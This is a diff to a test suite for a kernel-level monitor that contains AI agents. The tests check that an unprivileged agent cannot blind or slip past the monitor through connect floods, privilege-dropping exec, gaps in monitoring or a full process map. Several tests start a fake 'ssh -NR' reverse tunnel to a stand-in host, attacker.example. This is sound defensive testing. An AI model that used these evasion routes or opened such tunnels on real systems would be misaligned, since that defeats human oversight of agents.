@@ -1,6 +1,6 @@
 """The agent cannot blind or slip past the monitor (issue: "The agent cannot blind, bypass,
 freeze or crash the monitor", items 1, 3, 4 and 6). Every attack runs as an unprivileged
-agent user (conftest.agent_user), against a real monitor and the real kernel.
+agent user (conftest.AGENT_UID, nobody), against a real monitor and the real kernel.
 
 - a connect flood cannot crowd out the records userspace rules need (two rings, per-process
   aggregation, fail-closed when a record that needed a decision is lost anyway);
@@ -20,7 +20,15 @@ import time
 from pathlib import Path
 
 import pytest
-from conftest import AGENT_USER, Running, free_port, probes_for, require_root, wait_exit
+from conftest import (
+    AGENT_UID,
+    Running,
+    free_port,
+    probes_for,
+    require_root,
+    start_as_agent,
+    wait_exit,
+)
 
 from monitor.config import load_config_text
 from monitor.events import Counter
@@ -64,7 +72,7 @@ int main(int argc, char **argv) {
 
 def agent_config(extra_agents: str = "", monitor: str = "") -> str:
     return (f"agents:\n{extra_agents}"
-            f"  - name: hostile\n    match:\n      - user: {AGENT_USER}\n"
+            f"  - name: hostile\n    match:\n      - uid: {AGENT_UID}\n"
             f"monitor:\n  tick_seconds: 0.25\n{monitor}")
 
 
@@ -79,12 +87,6 @@ def fake_ssh(d: Path) -> Path:
     prog.write_text("#!/bin/sh\nwhile :; do sleep 0.2; done\n")  # stays `ssh -R` to /proc
     prog.chmod(0o755)
     return prog
-
-
-def as_agent(argv: list[str], ids: tuple[int, int], **kw: object) -> subprocess.Popen[bytes]:
-    uid, gid = ids
-    return subprocess.Popen(argv, user=uid, group=gid, extra_groups=[],  # type: ignore[call-overload, no-any-return]
-                            **kw)
 
 
 def killed(p: subprocess.Popen[bytes], timeout: float = 10) -> bool:
@@ -104,7 +106,7 @@ def flooder(reachable_tmp: Path) -> Path:
 
 @pytest.mark.parametrize("vary", [0, 1], ids=["one-destination", "many-destinations"])
 def test_a_connect_flood_cannot_blind_the_userspace_rules(
-        agent_user: tuple[int, int], reachable_tmp: Path, flooder: Path, vary: int) -> None:
+        reachable_tmp: Path, flooder: Path, vary: int) -> None:
     """Two agent processes flood connect() on UDP sockets; meanwhile `ssh -R` is started ten
     times in a row: ten kills by the argv rule (it was 0 in 10 when one ring carried all)."""
     mon = start(agent_config(monitor="  ring_buffer_mib: 1"))
@@ -115,10 +117,9 @@ def test_a_connect_flood_cannot_blind_the_userspace_rules(
         for _ in range(10):
             floods = [f for f in floods if f.poll() is None]
             while len(floods) < 2:  # a flooder failed closed: the flood goes on regardless
-                floods.append(as_agent([str(flooder), str(vary)], agent_user))
+                floods.append(start_as_agent([str(flooder), str(vary)]))
             time.sleep(0.3)
-            p = as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"],
-                         agent_user)
+            p = start_as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"])
             if killed(p):
                 v = mon.wait_verdict(rule="ssh-reverse-or-dynamic-forward", pid=p.pid)
                 kills += v["outcome"] == "killed"
@@ -146,7 +147,7 @@ USERSPACE_MATCHERS = {
 @pytest.mark.parametrize("matcher", sorted(USERSPACE_MATCHERS))
 @pytest.mark.parametrize("dropper", ["setpriv", "chroot"])
 def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_exist(
-        agent_user: tuple[int, int], reachable_tmp: Path, matcher: str, dropper: str) -> None:
+        reachable_tmp: Path, matcher: str, dropper: str) -> None:
     """An untracked root process becomes a pending candidate at its exec (a userspace matcher
     exists); it then drops to the agent's uid and execs `ssh -R`: the uid matcher must make
     it an agent root there, and the argv rule must kill it."""
@@ -154,9 +155,9 @@ def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_
     mon = start(agent_config(extra_agents=extra))
     ssh = fake_ssh(reachable_tmp)
     argv = [str(ssh), "-NR", "9000:localhost:22", "attacker.example"]
-    drop = {"setpriv": ["setpriv", f"--reuid={AGENT_USER}", f"--regid={AGENT_USER}",
+    drop = {"setpriv": ["setpriv", f"--reuid={AGENT_UID}", f"--regid={AGENT_UID}",
                         "--clear-groups", "--", *argv],
-            "chroot": ["chroot", f"--userspec={AGENT_USER}:{AGENT_USER}", "/", *argv]}
+            "chroot": ["chroot", f"--userspec={AGENT_UID}:{AGENT_UID}", "/", *argv]}
     try:
         p = subprocess.Popen(drop[dropper])
         assert killed(p), f"{dropper} -> ssh -R ran on"
@@ -168,12 +169,11 @@ def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_
 
 # --- 4. adopted and recovered processes are judged -----------------------------------------
 
-def test_what_the_monitor_adopts_at_start_it_judges(agent_user: tuple[int, int],
-                                                      reachable_tmp: Path) -> None:
+def test_what_the_monitor_adopts_at_start_it_judges(reachable_tmp: Path) -> None:
     """`ssh -R` started while no monitor ran is killed once one starts and adopts it."""
     require_root()
     ssh = fake_ssh(reachable_tmp)
-    p = as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"], agent_user)
+    p = start_as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"])
     time.sleep(0.2)
     mon = start(agent_config())
     try:
@@ -187,8 +187,7 @@ def test_what_the_monitor_adopts_at_start_it_judges(agent_user: tuple[int, int],
         mon.stop()
 
 
-def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(agent_user: tuple[int, int],
-                                                                 reachable_tmp: Path) -> None:
+def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(reachable_tmp: Path) -> None:
     """With pins the kernel tracks the agent while no monitor runs, but nothing reads the
     exec records: an `ssh -R` started in the gap dies when the monitor comes back."""
     from test_recovery import start as start_cli
@@ -200,7 +199,7 @@ def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(agent_user: tuple
     pin = f"/sys/fs/bpf/awtest-gap-{os.getpid()}"
     sock = str(reachable_tmp / "ctl.sock")
     config = reachable_tmp / "config.yaml"
-    config.write_text(f"agents:\n  - name: hostile\n    match:\n      - user: {AGENT_USER}\n"
+    config.write_text(f"agents:\n  - name: hostile\n    match:\n      - uid: {AGENT_UID}\n"
                       f"monitor:\n  control_socket: {sock}\n  pin_dir: {pin}\n"
                       f"  tick_seconds: 0.2\nmetrics: {{listen: '127.0.0.1:{free_port()}'}}\n")
     policy = reachable_tmp / "policy.yaml"
@@ -212,7 +211,7 @@ def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(agent_user: tuple
     mon = start_cli(config, policy, sock, log)
     agent = None
     try:
-        agent = as_agent(["/bin/sh", "-c", script], agent_user)
+        agent = start_as_agent(["/bin/sh", "-c", script])
         wait_for(lambda: any(s["root_pid"] == agent.pid for s in
                              control.request(sock, {"op": "status"})["sessions"]),
                  "agent session not seen")
@@ -270,11 +269,11 @@ for c in children:
 
 
 def test_children_a_full_process_map_cannot_hold_die_before_they_run_anything(
-        agent_user: tuple[int, int], reachable_tmp: Path) -> None:
+        reachable_tmp: Path) -> None:
     mon = start(agent_config(monitor="  max_processes: 1024"))
     marker = reachable_tmp / "ran"
     try:
-        p = as_agent([sys.executable, "-c", FORKER, str(marker)], agent_user,
+        p = start_as_agent([sys.executable, "-c", FORKER, str(marker)],
                      stdout=subprocess.PIPE)
         out, _ = p.communicate(timeout=120)
         dead, last_killed = out.split()
